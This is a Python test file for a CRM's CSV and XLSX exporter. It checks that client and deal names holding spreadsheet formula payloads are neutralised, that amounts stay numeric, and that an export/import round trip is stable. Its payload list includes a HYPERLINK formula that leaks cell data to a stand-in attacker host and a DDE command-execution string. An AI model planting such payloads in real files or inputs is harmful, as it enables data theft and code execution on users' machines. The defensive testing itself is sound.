"""Exports: spreadsheet-safe text, numbers kept numeric, and a stable round trip.

RELIABILITY 40 (formula injection in CSV and XLSX) and 41 (export → import → same data).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from tests.fixtures import email_of
from tests.transfer import snapshots
from tests.transfer.files import read_xlsx, write_csv, xlsx_types
from voronka import clock
from voronka.access.actor import Actor
from voronka.access.policy import Scope
from voronka.campaign.models import Channel, ChannelKind
from voronka.client.models import Client, ClientKind, ContactKind, ContactPoint
from voronka.db.session import unit_of_work
from voronka.deal.models import Deal, DealStatus
from voronka.transfer import exporter
from voronka.transfer.mapping import Entity
from voronka.transfer.reading import FileFormat

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-cmd",
    "@SUM(A1:A9)",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\t=1+1",
    "\r=1+1",
]


def export(engine, entity: Entity, file_format: FileFormat, path: Path) -> Path:
    with unit_of_work(engine, write=False) as session, path.open("wb") as target:
        exporter.write(
            session,
            actor=Actor.system(),
            scope=Scope.ALL,
            entity=entity,
            file_format=file_format,
            target=target,
        )
    return path


def csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())  # UTF-8 BOM for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def add_client(session, name: str, phone: str, owner_id: int | None = None) -> Client:
    client = Client(workspace_id=1, kind=ClientKind.PERSON, name=name, owner_id=owner_id)
    client.contacts.append(ContactPoint(workspace_id=1, kind=ContactKind.PHONE, value=phone))
    session.add(client)
    session.flush()
    return client


@pytest.fixture
def hostile(engine, people):
    """Clients named with formula payloads (stored directly: the API would trim the spaces)."""
    with unit_of_work(engine) as session:
        return [
            add_client(session, name, f"+7999100{index:04d}", people.users["M1"]).id
            for index, name in enumerate(INJECTIONS)
        ]


@pytest.fixture
def negative_deal(engine, hostile, sales):
    """A deal titled like a formula with a negative amount, stored directly (the API
    refuses negative amounts; the exporter must still write them as numbers)."""
    with unit_of_work(engine) as session:
        session.add(
            Deal(
                workspace_id=1,
                title="-cmd",
                client_id=hostile[0],
                pipeline_id=sales.id,
                stage_id=sales.stages["New"],
                status=DealStatus.OPEN,
                amount=Decimal("-5.00"),
                currency="RUB",
                stage_entered_at=clock.now(),
            )
        )


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_formula_payloads_are_neutralised(engine, hostile, tmp_path, file_format):
    path = export(engine, Entity.CLIENTS, file_format, tmp_path / f"c.{file_format.value}")
    if file_format is FileFormat.CSV:
        rows = csv_rows(path)
    else:
        rows = read_xlsx(path)
        assert {t for row in xlsx_types(path) for t in row} <= {"s", "n", "d"}  # no "f"
    header, *data = rows
    names = [row[header.index("name")] for row in data]
    for payload in INJECTIONS:
        if file_format is FileFormat.XLSX:
            payload = payload.replace("\r", "\n")  # XML reads a bare CR as a line feed
        assert "'" + payload in names
    phones = {row[header.index("phone")] for row in data}
    assert "'+79990000001" in phones  # a leading + is a formula to a spreadsheet
    assert all(not str(cell).startswith(("=", "+", "-", "@")) for row in data for cell in row)


def test_csv_is_rfc_4180(engine, people, tmp_path):
    with unit_of_work(engine) as session:
        add_client(session, 'Quote " comma, and\nnew line', "+79991000099")
    raw = export(engine, Entity.CLIENTS, FileFormat.CSV, tmp_path / "c.csv").read_bytes()
    assert b'"Quote "" comma, and\nnew line"' in raw
    assert raw.count(b"\r\n") == 5  # header + 4 clients, CRLF after each record


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_amounts_stay_numbers_and_text_does_not(engine, negative_deal, tmp_path, file_format):
    path = export(engine, Entity.DEALS, file_format, tmp_path / f"d.{file_format.value}")
    if file_format is FileFormat.CSV:
        header, row = csv_rows(path)
        assert row[header.index("amount")] == "-5.00"
        assert b",-5.00," in path.read_bytes()  # unquoted: a number to a spreadsheet
    else:
        header, row = read_xlsx(path)
        assert row[header.index("amount")] == -5
        assert xlsx_types(path)[1][header.index("amount")] == "n"
    assert row[header.index("title")] == "'-cmd"


def test_export_shows_what_the_data_holds(engine, people, sales, import_file, frozen, tmp_path):
    with unit_of_work(engine) as session:
        session.add(
            Channel(workspace_id=1, slug="yandex", name="Яндекс", kind=ChannelKind.PAID_SEARCH)
        )
    rows = [
        ["Имя", "Тип", "Телефон", "Email", "Компания", "Теги", "Ответственный", "Источник"],
        ["Ромашка", "company", "+79992000000", "", "", "опт", email_of("H"), "yandex"],
        ["Анна", "", "+79992000001, 89992000002", "anna@example.ru", "Ромашка", "b, a", "", ""],
    ]
    assert import_file(write_csv(tmp_path / "in.csv", rows)).created == 2
    header, *data = csv_rows(export(engine, Entity.CLIENTS, FileFormat.CSV, tmp_path / "c.csv"))
    assert header == list(exporter.CLIENT_COLUMNS)
    by_name = {row[1]: dict(zip(header, row, strict=True)) for row in data}
    assert [row[1] for row in data][:1] == ["Ромашка"]  # companies first
    assert {k: v for k, v in by_name["Анна"].items() if k != "id"} == {
        "name": "Анна",
        "kind": "person",
        "phone": "'+79992000001, +79992000002",
        "email": "anna@example.ru",
        "company": "Ромашка",
        "job_title": "",
        "tags": "a, b",
        "owner": "",
        "source": "",
        "created_at": "2026-03-02T12:00:00+03:00",
    }
    assert by_name["Ромашка"]["owner"] == email_of("H")
    assert by_name["Ромашка"]["source"] == "yandex"


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_round_trip_is_stable(engine, people, sales, hostile, import_file, tmp_path, file_format):
    """Export, import the file back (update), export again: same data, no double prefix."""
    suffix = file_format.value
    rows = [["title", "client_id", "stage", "amount"]]
    rows += [["=1+1", str(people.clients["C2"]), "Won", "10"]]
    assert import_file(write_csv(tmp_path / "deals.csv", rows), "deals").created == 1
    before = (snapshots.clients(engine), snapshots.deals(engine))
    first_clients = export(engine, Entity.CLIENTS, file_format, tmp_path / f"c1.{suffix}")
    first_deals = export(engine, Entity.DEALS, file_format, tmp_path / f"d1.{suffix}")

    clients_back = import_file(first_clients, on_duplicate="update")
    deals_back = import_file(first_deals, "deals", on_duplicate="update")

    strippable = sum(1 for name in INJECTIONS if name != name.strip())
    assert (clients_back.failed, clients_back.created) == (0, 0), clients_back.errors
    assert clients_back.updated == strippable  # only names with edge spaces change: trimmed
    assert clients_back.ignored_columns == ["id", "created_at"]
    assert (deals_back.unchanged, deals_back.failed, deals_back.created) == (1, 0, 0)
    after = (snapshots.clients(engine), snapshots.deals(engine))
    assert after[1] == before[1]
    trimmed = {n.strip() for n in INJECTIONS}
    assert [c for c in after[0] if c[0] not in trimmed] == [
        c for c in before[0] if c[0] not in INJECTIONS
    ]
    second_deals = export(engine, Entity.DEALS, file_format, tmp_path / f"d2.{suffix}")
    assert _content(second_deals) == _content(first_deals)
    second_clients = export(engine, Entity.CLIENTS, file_format, tmp_path / f"c2.{suffix}")
    third = import_file(second_clients, on_duplicate="update")
    assert (third.unchanged, third.updated) == (len(INJECTIONS) + 3, 0)  # fixed point


def _content(path: Path) -> list[list[object]]:
    return csv_rows(path) if path.suffix == ".csv" else read_xlsx(path)
